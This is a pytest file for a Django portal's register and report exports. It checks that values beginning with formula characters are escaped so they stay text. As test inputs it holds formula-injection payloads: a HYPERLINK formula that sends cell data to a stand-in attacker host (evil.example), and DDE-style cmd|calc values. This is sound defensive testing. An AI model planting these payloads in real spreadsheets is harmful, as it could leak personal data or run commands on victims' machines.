"""No cell of a spreadsheet or CSV leaving the portal runs as a formula (common.cells.neutralise).

The attack: a requester named =HYPERLINK(...) became a live formula in export_register's XLSX and a
raw formula cell in its CSV; clicked by staff it could send ID numbers and phones elsewhere.
"""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.core.management import call_command

from common.cells import neutralise
from reports import exports
from tests.factories import InformationRequestFactory, OrganFactory

ATTACK = '=HYPERLINK("http://evil.example/?"&F2,"点击查看")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (ATTACK, "'" + ATTACK),
        ("+86 138", "'+86 138"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("＝HYPERLINK()", "'＝HYPERLINK()"),
        ("张三", "张三"),
        ("a=b", "a=b"),
        ("2026-03-15", "2026-03-15"),
        ("", ""),
        (12, 12),
        (None, None),
        (dt.date(2026, 3, 15), dt.date(2026, 3, 15)),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_requester_named_like_a_formula_stays_text_in_the_register_export(tmp_path, fmt):
    InformationRequestFactory(received_on=dt.date(2026, 9, 15), name=ATTACK, remarks="@SUM(1)")
    target = tmp_path / f"register.{fmt}"
    call_command("export_register", "--year", "2026", "--format", fmt, "-o", str(target), stdout=io.StringIO())
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(target.read_bytes().decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
    else:
        sheet = openpyxl.load_workbook(target).active
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is stored as a formula"
        cells = [c.value for c in cells]
    assert "'" + ATTACK in cells and "'@SUM(1)" in cells
    assert ATTACK not in cells


@pytest.mark.django_db
def test_the_report_workbook_has_no_formula_cell():
    organ = OrganFactory(name="=1+1")
    from reports.compiler import compile_annual_report

    data = compile_annual_report(organ, 2026)
    workbook = openpyxl.load_workbook(io.BytesIO(exports.report_xlsx(data, '=HYPERLINK("x")年度报告')))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    assert workbook.worksheets[0]["A1"].value == '\'=HYPERLINK("x")年度报告'
